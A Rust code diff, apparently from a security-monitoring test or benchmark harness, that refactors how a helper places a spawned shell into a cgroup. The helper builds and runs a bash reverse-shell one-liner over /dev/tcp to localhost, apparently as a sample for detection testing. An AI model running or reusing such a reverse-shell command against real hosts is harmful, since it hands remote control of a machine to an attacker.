@@ -51,9 +51,7 @@
 
 use std::{
     collections::{HashMap, HashSet},
-    ffi::CString,
     net::SocketAddr,
-    os::unix::{ffi::OsStrExt, process::CommandExt},
     process::{Child, Command, ExitCode, Stdio},
     sync::{
         atomic::{AtomicUsize, Ordering},
@@ -1184,7 +1182,6 @@ impl ShellCgroup {
     /// (the marker is the script's `$0`, the exec row's `argv[4]`).
     fn spawn_shell(&self, port: u16, marker: &str) -> Result<Child> {
         let script = format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1");
-        let procs = CString::new(self.cgroup.procs_file().as_os_str().as_bytes())?;
         let mut command = Command::new("/bin/bash");
         command
             .args(["-c", &script, marker])
@@ -1194,22 +1191,8 @@ impl ShellCgroup {
             .stdin(Stdio::null())
             .stdout(Stdio::null())
             .stderr(Stdio::null());
-        // SAFETY: only async-signal-safe calls (open, write, close) between
-        // fork and exec: the child joins the cgroup before it executes.
-        unsafe {
-            command.pre_exec(move || {
-                let fd = libc::open(procs.as_ptr(), libc::O_WRONLY);
-                if fd < 0 {
-                    return Err(std::io::Error::last_os_error());
-                }
-                let written = libc::write(fd, b"0".as_ptr().cast(), 1);
-                libc::close(fd);
-                if written != 1 {
-                    return Err(std::io::Error::last_os_error());
-                }
-                Ok(())
-            });
-        }
+        // The child joins the cgroup before it executes.
+        self.cgroup.join_on_exec(&mut command)?;
         command
             .spawn()
             .context("starting a reverse shell in the bench cgroup")
